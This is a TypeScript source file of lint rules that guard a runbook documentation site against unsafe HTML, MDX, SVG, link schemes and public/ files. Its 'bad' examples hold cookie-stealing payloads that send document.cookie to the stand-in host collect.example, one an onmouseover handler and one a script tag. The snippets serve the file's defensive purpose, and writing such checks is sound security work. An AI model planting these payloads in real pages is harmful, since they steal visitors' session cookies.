import { lstatSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import type { RunbookFacts } from '../runbook/facts.ts';
import type { Finding, Rule } from '../runbook/rule.ts';
import { readRepoFile, RepoPathError } from '../runbook/paths.ts';
import { starlightFieldFindings, uiStringFindings } from '../runbook/starlight-fields.ts';
import {
  BODY_SCHEMA,
  propertyName,
  refuseElement,
  refuseHtml,
  refusePage,
  refuseSvg,
  refuseXml,
  refusedOnlyForScheme,
  unsafeUrl,
  type Refusal,
} from './policy.ts';
import { didYouMean } from '../runbook/did-you-mean.ts';
import { cutAt, lastAtOrBefore } from '../runbook/text.ts';
import { runbook } from '../runbook/examples.ts';

// acorn is loaded only for sites with MDX pages.
const require = createRequire(import.meta.url);

/** Rules about what a body may put on the site. */
export const htmlRules = [
  {
    id: 'html-unsafe',
    severity: 'error',
    phase: 'facts',
    afterBuild: true,
    baseline: false,
    summary:
      "Raw HTML, MDX elements, Markdown links and SVG images stay within one allow-list (GitHub's sanitizer schema, narrowed): text formatting, details/summary, kbd, sup/sub, abbr, tables, links (http, https, mailto, tel, relative) and images; no script, event handlers, forms, embedded documents, class, style or data-* attributes (they could imitate the site's own run blocks). Also the Starlight fields that take HTML (head, banner, hero).",
    hint: 'Remove it: describe the step in text, link to the tool, or add a run block. (A repository whose every author is trusted can set `allowUnsafeHtml: true` in runbooks.config.yaml.)',
    bad: {
      page: runbook(
        [],
        '## Check\n\n<span onmouseover="fetch(\'https://collect.example/\' + document.cookie)">Hover for the error rate</span>\n',
      ),
    },
    good: {
      page: runbook(
        [],
        '## Check\n\n<span title="5xx per second">Compare the error rate</span> with the last deploy.\n',
      ),
    },
    check: (all, { root, config }) =>
      config.allowUnsafeHtml
        ? []
        : [
            ...all.flatMap((f) => [
              ...pageFindings(f),
              ...starlightFieldFindings(f),
              ...svgFindings(f, root),
              ...mdxFindings(f),
            ]),
            ...uiStringFindings(root),
          ],
  },
  {
    id: 'link-scheme',
    severity: 'error',
    phase: 'facts',
    baseline: true,
    summary:
      "A Markdown link uses a scheme the site publishes (http, https, mailto, tel, or a relative path): a link written in another tool's syntax (`link:https://…`) goes nowhere.",
    hint: 'Write the URL alone (`https://…`), or describe how to reach the tool in text. A baseline may accept this finding while a page is being moved over.',
    bad: { page: runbook([], '## Check\n\nOpen [the console](link:https://console.kestrel.example/).\n') },
    good: { page: runbook([], '## Check\n\nOpen [the console](https://console.kestrel.example/).\n') },
    check: (all, { config }) => (config.allowUnsafeHtml ? [] : all.flatMap(schemeFindings)),
  },
] as const satisfies readonly Rule<{ root: string; config: { allowUnsafeHtml: boolean } }>[];

/** The body policy over the page's raw HTML, block by block and as the blocks read together, and its links. */
function pageFindings(f: RunbookFacts): Finding[] {
  const out: Finding[] = [];
  // One finding per place, looked up in a set: a page of many refusals stays linear.
  const seen = new Set<string>();
  const report = (line: number, column: number, why: string) => {
    if (seen.has(`${line}:${column}`)) return;
    seen.add(`${line}:${column}`);
    out.push({ file: f.file, line, column, message: `Unsafe HTML: ${why}` });
  };
  for (const block of f.html) {
    for (const r of refuseHtml(block.value)) {
      report(
        block.line + (r.line ?? 1) - 1,
        r.line && r.line > 1 ? (r.column ?? 1) : block.column + (r.column ?? 1) - 1,
        r.why,
      );
    }
  }
  // The page holds the blocks one after another, and a browser parses them so: an
  // <svg> or an open attribute in one block changes what the next one means.
  if (f.html.length > 1) {
    const starts: number[] = [];
    let joined = '';
    let lines = 1;
    for (const block of f.html) {
      starts.push(lines);
      joined += `${block.value}\n`;
      for (let i = block.value.indexOf('\n'); i !== -1; i = block.value.indexOf('\n', i + 1)) lines++;
      lines++;
    }
    for (const r of refuseHtml(joined)) {
      if (!r.line) continue;
      const index = lastAtOrBefore(starts, r.line);
      const block = f.html[index];
      report(
        block.line + r.line - starts[index],
        r.line === starts[index] ? block.column + (r.column ?? 1) - 1 : (r.column ?? 1),
        r.why,
      );
    }
  }
  for (const link of f.links) {
    const why = unsafeUrl(link.url, link.image);
    if (why && !link.html && !refusedOnlyForScheme(link.url, link.image))
      out.push({
        file: f.file,
        line: link.line,
        column: link.column,
        message: `Unsafe ${link.image ? 'image' : 'link'} ${JSON.stringify(link.url.slice(0, 60))}: ${why}`,
      });
  }
  return out;
}

/** Markdown links whose scheme the site does not publish, and that are no typo of http(s) (link-broken names those). */
function schemeFindings(f: RunbookFacts): Finding[] {
  return f.links.flatMap((link) => {
    if (link.html || !refusedOnlyForScheme(link.url, link.image) || !unsafeUrl(link.url, link.image)) return [];
    const scheme = /^\s*([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(link.url)?.[1].toLowerCase() ?? '';
    if (didYouMean(scheme, ['http', 'https'])) return [];
    return [
      {
        file: f.file,
        line: link.line,
        column: link.column,
        message: `Link ${JSON.stringify(link.url.slice(0, 60))} uses the ${scheme}: scheme; the site publishes links with http, https, mailto, tel or a relative path only`,
      },
    ];
  });
}

/** SVG images next to the page: served from the site's own origin, a script inside runs when the file is opened. */
function svgFindings(f: RunbookFacts, root: string): Finding[] {
  return f.links.flatMap((link) => {
    const path = cutAt(link.url, '?#');
    if (!link.image || !/\.svg$/i.test(path) || /^[a-z][a-z0-9+.-]*:|^\/\//i.test(link.url)) return [];
    // Read through the repository's door: an image linked out of the repository is path-outside-repo's finding, never read here.
    const bytes = readRepoFile(root, path.startsWith('/') ? join('public', path) : join(dirname(f.file), path));
    if (bytes instanceof RepoPathError) return [];
    const text = bytes.toString('utf8');
    const first = refuseSvg(text)[0];
    return first
      ? [
          {
            file: f.file,
            line: link.line,
            column: link.column,
            message: `Unsafe SVG image ${JSON.stringify(link.url)}: ${svgWhere(first)}${first.why}, and the site would serve it from its own origin`,
          },
        ]
      : [];
  });
}

/** "at 3:5 of the SVG, " for a refusal the parser placed. */
export const svgWhere = (r: Refusal): string => (r.line ? `at ${r.line}:${r.column} of the SVG, ` : '');

/** A node of the compiled MDX page's syntax tree, as far as the walk needs it. */
interface JsNode {
  type: string;
  [key: string]: unknown;
}

/**
 * The elements an MDX page really renders, read from its compiled JavaScript (so JSX
 * inside `{…}` and attributes given as expressions or spreads count): an intrinsic
 * element with an event handler, `set:html` or `dangerouslySetInnerHTML`, a URL attribute
 * that runs script or is computed, or spread attributes nothing can check. A component
 * from a package (Starlight's `<Badge>`, `<LinkButton>`…) is held to the same policy:
 * its own props (see {@link PACKAGED_COMPONENTS}) are its business, every other prop is
 * an attribute of the element it renders (Badge, LinkButton and LinkCard pass them on).
 */
function mdxFindings(f: RunbookFacts): Finding[] {
  if (!f.mdxCode) return [];
  const { parse } = require('acorn') as typeof import('acorn');
  let ast: JsNode;
  try {
    ast = parse(f.mdxCode, { ecmaVersion: 'latest', sourceType: 'module' }) as unknown as JsNode;
  } catch {
    return [];
  }
  const out: Finding[] = [];
  const lines = sourceLines(f);
  // The compiled code keeps the page's order: each finding is looked for after the last one.
  let cursor = f.frontmatter.lineCount;
  const place = (needles: string[]) => {
    for (let i = cursor; i < lines.length; i++) {
      const col = Math.min(...needles.map((n) => lines[i].indexOf(n)).filter((c) => c !== -1));
      if (Number.isFinite(col)) {
        cursor = i + 1;
        return { line: i + 1, column: col + 1 };
      }
    }
    return { line: cursor + 1, column: 1 };
  };
  const element = (callee: unknown): string | undefined => {
    const c = callee as JsNode | undefined;
    if (c?.type === 'Literal' && typeof c.value === 'string') return c.value;
    // `_components.p`: Markdown's own elements, and intrinsic tags MDX lets a page override.
    if (
      c?.type === 'MemberExpression' &&
      (c.object as JsNode)?.type === 'Identifier' &&
      ((c.object as JsNode).name as string) === '_components'
    ) {
      const name = (c.property as JsNode)?.name as string | undefined;
      return name && /^[a-z]/.test(name) ? name : undefined;
    }
    return undefined;
  };
  const packaged = packagedBindings(ast);
  const walk = (node: unknown): void => {
    if (!node || typeof node !== 'object') return;
    if (Array.isArray(node)) return node.forEach(walk);
    const n = node as JsNode;
    if (n.type === 'CallExpression' && /^_jsxs?$|^_jsxDEV$/.test(((n.callee as JsNode)?.name as string) ?? '')) {
      const [tagArg, given] = n.arguments as JsNode[];
      const component = packagedComponent(tagArg, packaged);
      const tag = component?.renders ?? element(tagArg);
      // Spread attributes compile to Object.assign({…}, {…}): literal objects are checked as one, anything else cannot be.
      const parts =
        given?.type === 'ObjectExpression'
          ? [given]
          : given?.type === 'CallExpression' && ((given.callee as JsNode)?.property as JsNode)?.name === 'assign'
            ? (given.arguments as JsNode[])
            : [given];
      // A component's own props are not attributes: left out before the policy sees the rest.
      const own = (p: JsNode) =>
        component !== undefined && p.type !== 'SpreadElement' && component.own.includes(propName(p));
      const props = parts.every((p) => p?.type === 'ObjectExpression')
        ? ({
            type: 'ObjectExpression',
            properties: parts.flatMap((p) => (p.properties as JsNode[]).filter((q) => !own(q))),
          } as JsNode)
        : ({ type: 'ObjectExpression', properties: [{ type: 'SpreadElement' }] } as JsNode);
      if (tag && given) {
        const problem = elementProblem(tag, props);
        // A component is named as written (`<Badge>`), not by the element its attributes land on.
        const shown = component ? sourceName(tagArg) : tag;
        if (problem)
          out.push({
            file: f.file,
            ...place([problem.attribute ?? `<${shown}`]),
            message: `Unsafe JSX: ${problem.why.split(`<${tag}>`).join(`<${shown}>`)}`,
          });
      }
    }
    for (const [key, value] of Object.entries(n)) if (key !== 'type' && value && typeof value === 'object') walk(value);
  };
  walk(ast);
  return out;
}

/** A component a package renders, as far as the body policy needs it: the props it reads itself, and the body element its other props are judged on (its own markup, `<aside>` or `<svg>`, is the site's). */
interface PackagedComponent {
  own: readonly string[];
  renders: string;
}

/** The code-block props Expressive Code reads (core and the plugins Starlight ships). */
const CODE_PROPS = [
  'code',
  'lang',
  'meta',
  'locale',
  'title',
  'frame',
  'mark',
  'ins',
  'del',
  'wrap',
  'preserveIndent',
  'hangingIndent',
  'showLineNumbers',
  'startLineNumber',
  'collapse',
  'collapseStyle',
  'useDiffSyntax',
];

/**
 * The components of Starlight's `@astrojs/starlight/components` (and Expressive Code's
 * `<Code>`): the props each reads itself, and where any other prop goes. Badge, LinkButton
 * and LinkCard spread the rest onto their `<span>`/`<a>` (so `class="rb-snippet"
 * data-code=…` would forge a run block, `style` an overlay); the others drop it, and it is
 * refused all the same, so nothing depends on which one passes what on. A component of a
 * package not listed here has no own props: every prop is held to the policy.
 */
const PACKAGED_COMPONENTS: Record<string, PackagedComponent> = {
  Aside: { own: ['type', 'title', 'icon'], renders: 'div' },
  Badge: { own: ['text', 'variant', 'size'], renders: 'span' },
  Card: { own: ['icon', 'title'], renders: 'div' },
  CardGrid: { own: ['stagger'], renders: 'div' },
  Icon: { own: ['name', 'label', 'size', 'color'], renders: 'span' },
  Tabs: { own: ['syncKey'], renders: 'div' },
  TabItem: { own: ['icon', 'label'], renders: 'div' },
  LinkCard: { own: ['title', 'description'], renders: 'a' },
  LinkButton: { own: ['variant', 'icon', 'iconPlacement'], renders: 'a' },
  Steps: { own: [], renders: 'ol' },
  FileTree: { own: [], renders: 'div' },
  Code: { own: CODE_PROPS, renders: 'div' },
};

/** A component's name as the page writes it: `Badge`, `S.Badge`. */
const sourceName = (callee: JsNode): string =>
  callee.type === 'MemberExpression'
    ? `${sourceName(callee.object as JsNode)}.${String((callee.property as JsNode).name)}`
    : String(callee.name);

/** A prop's name as written (`data-code`, `class`). */
const propName = (p: JsNode): string => {
  const key = p.key as JsNode | undefined;
  return String(key?.type === 'Identifier' ? key.name : key?.value);
};

/** Local names bound by imports from packages: name → the component it is (`import { Badge as B }`), or a namespace (`import * as S`). */
function packagedBindings(ast: JsNode): Map<string, PackagedComponent | 'namespace'> {
  const out = new Map<string, PackagedComponent | 'namespace'>();
  for (const node of (ast.body as JsNode[]) ?? []) {
    const source = ((node.source as JsNode | undefined)?.value as string | undefined) ?? '';
    // A relative import is a file of the repository, reviewed with it; a package is not.
    if (node.type !== 'ImportDeclaration' || source.startsWith('.') || source.startsWith('/')) continue;
    for (const spec of node.specifiers as JsNode[]) {
      const local = (spec.local as JsNode).name as string;
      if (spec.type === 'ImportNamespaceSpecifier') out.set(local, 'namespace');
      else {
        // Only the documented exports have known props; a default import or a deep path has none.
        const imported =
          spec.type === 'ImportSpecifier'
            ? String((spec.imported as JsNode).name ?? (spec.imported as JsNode).value)
            : '';
        const documented =
          /^@astrojs\/starlight\/components$|^astro-expressive-code\/components$/.test(source) &&
          Object.hasOwn(PACKAGED_COMPONENTS, imported);
        out.set(local, documented ? PACKAGED_COMPONENTS[imported] : { own: [], renders: 'span' });
      }
    }
  }
  return out;
}

/** The packaged component a `_jsx` call renders (`Badge`, `S.Badge`), or undefined for an element or a repository component. */
function packagedComponent(
  callee: JsNode | undefined,
  bindings: Map<string, PackagedComponent | 'namespace'>,
): PackagedComponent | undefined {
  if (callee?.type === 'Identifier') {
    const bound = bindings.get(callee.name as string);
    return bound === 'namespace' ? undefined : bound;
  }
  if (
    callee?.type === 'MemberExpression' &&
    (callee.object as JsNode)?.type === 'Identifier' &&
    bindings.get((callee.object as JsNode).name as string) === 'namespace'
  ) {
    const name = String((callee.property as JsNode)?.name ?? (callee.property as JsNode)?.value);
    return (
      (Object.hasOwn(PACKAGED_COMPONENTS, name) ? PACKAGED_COMPONENTS[name] : undefined) ?? { own: [], renders: 'span' }
    );
  }
  return undefined;
}

/** What the body policy refuses in an intrinsic element with these compiled props, and the attribute that says so. */
function elementProblem(tag: string, props: JsNode): { why: string; attribute?: string } | undefined {
  const literal: Record<string, string | number | boolean> = {};
  const written = new Map<string, string>();
  for (const p of props.properties as JsNode[]) {
    if (p.type === 'SpreadElement')
      return { why: `spread attributes on <${tag}> cannot be checked`, attribute: '{...' };
    const key = p.key as JsNode;
    const name = (key.type === 'Identifier' ? key.name : key.value) as string;
    if (name === 'children') continue;
    if (name === 'dangerouslySetInnerHTML' || name === 'set:html' || name === 'set:text')
      return { why: `the ${name} attribute on <${tag}> can run script`, attribute: name };
    const property = propertyName(name);
    written.set(property, name);
    const value = p.value as JsNode;
    if (value.type === 'Literal' && value.value !== null && typeof value.value !== 'object') {
      literal[property] = value.value as string | number | boolean;
      continue;
    }
    // A computed value cannot be judged: the attribute must be one the policy allows, and not a URL.
    const alone = refuseElement(tag, { [property]: 'x' });
    if (alone?.attribute) return { why: alone.why, attribute: name };
    if (property in (BODY_SCHEMA.protocols ?? {}))
      return { why: `the ${name} of <${tag}> is computed, so it cannot be checked`, attribute: `${name}=` };
  }
  const refused = refuseElement(tag, literal);
  if (!refused) return undefined;
  return { why: refused.why, attribute: refused.attribute ? written.get(refused.attribute) : undefined };
}

/** The page's lines, for placing what the compiled code found. */
function sourceLines(f: RunbookFacts): string[] {
  return f.mdxSource?.split('\n') ?? [];
}

/** Files a browser reads as markup when the site serves them from its own origin. */
const MARKUP = /\.(?:html?|xhtml|svg|xml)$/i;

/**
 * Files a host serves as data a browser shows, plays or downloads and never runs: images,
 * fonts, text, PDF, data, styles, media, archives. With {@link MARKUP} this is the whole
 * allow-list of what public/ may publish: a host picks the content type by extension, and
 * many others render or run (`.js` is a script the policy's `'self'` admits, `.shtml`
 * is HTML, `.xht`, `.xsl`, `.rss`, `.mml` are XML documents whose XHTML `<script>` runs).
 */
const SERVED_DATA =
  /\.(?:png|jpe?g|gif|webp|avif|ico|bmp|woff2?|ttf|otf|eot|txt|pdf|csv|tsv|json|webmanifest|md|css|mp4|webm|mp3|ogg|wav|zip|gz)$/i;

/** Host settings a site may ship at the top of public/ (Netlify, Cloudflare Pages, GitHub Pages). */
const HOST_FILES = new Set(['public/_headers', 'public/_redirects', 'public/CNAME', 'public/.nojekyll']);

/**
 * Headers public/_headers may set: caching, indexing and further security headers (a
 * second Content-Security-Policy only narrows the first). Not `Content-Type`, which turns
 * a text file into a page, nor a `! Name` line, which detaches the site's own policy.
 */
const HEADER_NAMES = new Set([
  'cache-control',
  'x-robots-tag',
  'referrer-policy',
  'permissions-policy',
  'x-frame-options',
  'x-content-type-options',
  'strict-transport-security',
  'content-security-policy',
  'cross-origin-opener-policy',
  'cross-origin-embedder-policy',
  'cross-origin-resource-policy',
]);

/** The first header line of a public/_headers the allow-list refuses: its line, and the name. */
function refusedHeader(text: string): { line: number; name: string } | undefined {
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    // An indented `Name: value` line is a header of the path above it; anything else is a path or a comment.
    const line = lines[i].trim();
    if (!/^[ \t]/.test(lines[i]) || line === '' || line.startsWith('#')) continue;
    const colon = line.indexOf(':');
    const name = (colon === -1 ? line : line.slice(0, colon)).trim();
    if (!HEADER_NAMES.has(name.toLowerCase())) return { line: i + 1, name };
  }
  return undefined;
}

/** What the policy refuses in one served markup file, by its kind. */
function refuseServed(name: string, text: string): Refusal[] {
  if (/\.svg$/i.test(name)) return refuseSvg(text);
  if (/\.xml$/i.test(name)) return refuseXml(text);
  return refusePage(text);
}

/**
 * `public/` is copied into the site as it is: a symlink there can publish any file the
 * build machine can read (`.git/config` with its token), and an HTML, SVG or XML file
 * there runs on the site's own origin. Every symlink is a finding (lstat, never followed:
 * a link that stays inside today can be retargeted in the next pull request), and every
 * markup file is held to the one HTML policy. The walk is iterative and never leaves public/.
 */
function publicFindings(root: string): Finding[] {
  const out: Finding[] = [];
  const stack = ['public'];
  while (stack.length) {
    const dir = stack.pop()!;
    let names: string[];
    try {
      names = readdirSync(join(root, dir)).sort();
    } catch {
      continue;
    }
    for (const name of names) {
      const file = `${dir}/${name}`;
      const stat = lstatSync(join(root, file));
      if (stat.isSymbolicLink()) {
        out.push({
          file,
          line: 1,
          column: 1,
          message: `public/ holds a symlink (to ${JSON.stringify(readlinkSync(join(root, file)))}): the build would publish whatever it points at`,
        });
      } else if (stat.isDirectory()) stack.push(file);
      else if (stat.isFile() && MARKUP.test(name)) {
        const first = refuseServed(name, readFileSync(join(root, file), 'utf8'))[0];
        if (first)
          out.push({
            file,
            line: first.line ?? 1,
            column: first.column ?? 1,
            message: `Unsafe ${name.split('.').pop()!.toUpperCase()} in public/: ${first.why}; the site serves this file from its own origin`,
          });
      } else if (file === 'public/_headers') {
        const refused = refusedHeader(readFileSync(join(root, file), 'utf8'));
        if (refused)
          out.push({
            file,
            line: refused.line,
            column: 1,
            message: `public/_headers sets ${JSON.stringify(refused.name)}: it may set caching and security headers only (a Content-Type makes a page of a text file, \`! Name\` drops the site's policy)`,
          });
      } else if (!SERVED_DATA.test(name) && !HOST_FILES.has(file)) {
        const ext = /\.[^./]+$/.exec(name)?.[0];
        out.push({
          file,
          line: 1,
          column: 1,
          message: `public/ publishes only markup the HTML policy checks and data a browser never runs (images, fonts, text, PDF, JSON, CSS, media): ${ext ? `a ${ext} file` : 'a file without an extension'} may run as a script or a page on the site's own origin`,
        });
      }
    }
  }
  return out;
}

/** What `public/` may hold. */
export const publicRules = [
  {
    id: 'public-unsafe',
    severity: 'error',
    phase: 'facts',
    baseline: true,
    summary:
      "Everything under public/ is published as it is, on the site's own origin: no symlinks; HTML, SVG and XML files only within the HTML policy (no script, event handlers, embedded documents or script URLs); other files only of a type a browser never runs (images, fonts, text, PDF, JSON, CSS, media), and `_headers` setting only caching and security headers.",
    hint: 'Replace a symlink with the file itself (or remove it); remove the script from the file, or serve it (or a file of another type) from another host. (A repository whose every author is trusted can set `allowUnsafeHtml: true`; symlinks are refused even then.)',
    bad: {
      files: {
        'public/status.html':
          '<p>Kestrel status</p>\n<script>fetch("https://collect.example/" + document.cookie)</script>\n',
      },
    },
    good: {
      files: {
        'public/status.html':
          '<p>Kestrel status: see <a href="https://status.kestrel.example/">the status page</a>.</p>\n',
      },
    },
    check: (_facts, { root, config }) =>
      publicFindings(root).filter((f) => !config.allowUnsafeHtml || f.message.includes('symlink')),
  },
] as const satisfies readonly Rule<{ root: string; config: { allowUnsafeHtml: boolean } }>[];
